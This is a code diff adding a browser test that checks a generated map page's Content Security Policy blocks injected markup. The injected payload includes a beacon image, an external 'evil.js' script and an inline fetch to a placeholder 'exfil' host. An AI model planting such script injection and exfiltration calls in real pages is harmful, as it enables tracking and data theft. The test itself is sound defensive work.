@@ -315,3 +315,24 @@ def test_antimeridian_and_high_latitude_draw_where_they_are(
     assert all(lat > 78 or abs(lat - 35.14) < 0.01 for lat in lats)  # Svalbard, and the S1 base
     browser.screenshot(tmp_path / "svalbard.png")
     _assert_clean(browser)
+
+
+def test_content_security_policy_stops_what_escaping_might_miss(
+    browser: Browser, people: tuple[list[Any], dict[str, list[Any]]], tmp_path: Path
+) -> None:
+    """Defence in depth: even markup smuggled into a page cannot fetch anything."""
+    profiles, evidence = people
+    page = write_maps(profiles[:1], {"ana": evidence["ana"]}, tmp_path)[1]
+    smuggled = (
+        '<img src="https://example.invalid/beacon.png">'
+        '<script src="https://example.invalid/evil.js"></script>'
+        '<script>fetch("https://example.invalid/exfil").catch(() => {});</script>'
+    )
+    text = page.read_text(encoding="utf-8").replace("</body>", smuggled + "</body>", 1)
+    page.write_text(text, encoding="utf-8")
+    browser.open(page)
+    assert browser.external_requests() == []
+    assert "https://example.invalid/beacon.png" in browser.blocked
+    assert "https://example.invalid/evil.js" in browser.blocked
+    refused = [m for m in browser.console_errors() if "Content Security Policy" in m["message"]]
+    assert len(refused) >= 3  # image, script and fetch
